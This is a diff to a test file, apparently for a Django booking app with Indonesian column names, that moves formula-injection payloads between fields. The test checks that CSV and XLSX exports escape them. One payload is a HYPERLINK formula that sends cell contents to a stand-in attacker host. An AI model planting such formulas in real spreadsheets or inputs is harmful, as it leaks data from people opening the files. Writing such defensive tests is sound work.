@@ -273,14 +273,14 @@ def test_moving_an_offering_to_another_room_tells_everyone_booked(
 
 def test_exports_never_run_a_formula_and_survive_control_characters(admin_client, afternoon_booking):
     afternoon_booking.phone = "0812\x0b\x01"
-    afternoon_booking.school_class = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
-    afternoon_booking.guardian_name = "@SUM(A1)"
+    afternoon_booking.guardian_name = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
+    afternoon_booking.school_class = "@SUM(A1)"
     afternoon_booking.save()
     response = admin_client.get("/admin/booking/bookings/", {"export": "csv"})
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     body = b"".join(response.streaming_content).decode()
     (row,) = list(csv.DictReader(io.StringIO(body)))
-    assert row["Kelas"].startswith("'=HYPERLINK(") and row["Nama orang tua atau wali"] == "'@SUM(A1)"
+    assert row["Nama orang tua atau wali"].startswith("'=HYPERLINK(") and row["Kelas"] == "'@SUM(A1)"
 
     xlsx = admin_client.get("/admin/booking/bookings/", {"export": "xlsx"})
     assert xlsx.status_code == 200
@@ -290,5 +290,7 @@ def test_exports_never_run_a_formula_and_survive_control_characters(admin_client
     headings, values = (list(row) for row in sheet.iter_rows(values_only=True))
     exported = dict(zip(headings, values, strict=True))
     assert exported["Telepon"] == "0812  "
-    class_cell = sheet.cell(row=2, column=headings.index("Kelas") + 1)
-    assert class_cell.value.startswith("=HYPERLINK(") and class_cell.data_type == "s"  # text, not a formula
+    guardian_cell = sheet.cell(row=2, column=headings.index("Nama orang tua atau wali") + 1)
+    assert (
+        guardian_cell.value.startswith("=HYPERLINK(") and guardian_cell.data_type == "s"
+    )  # text, not a formula
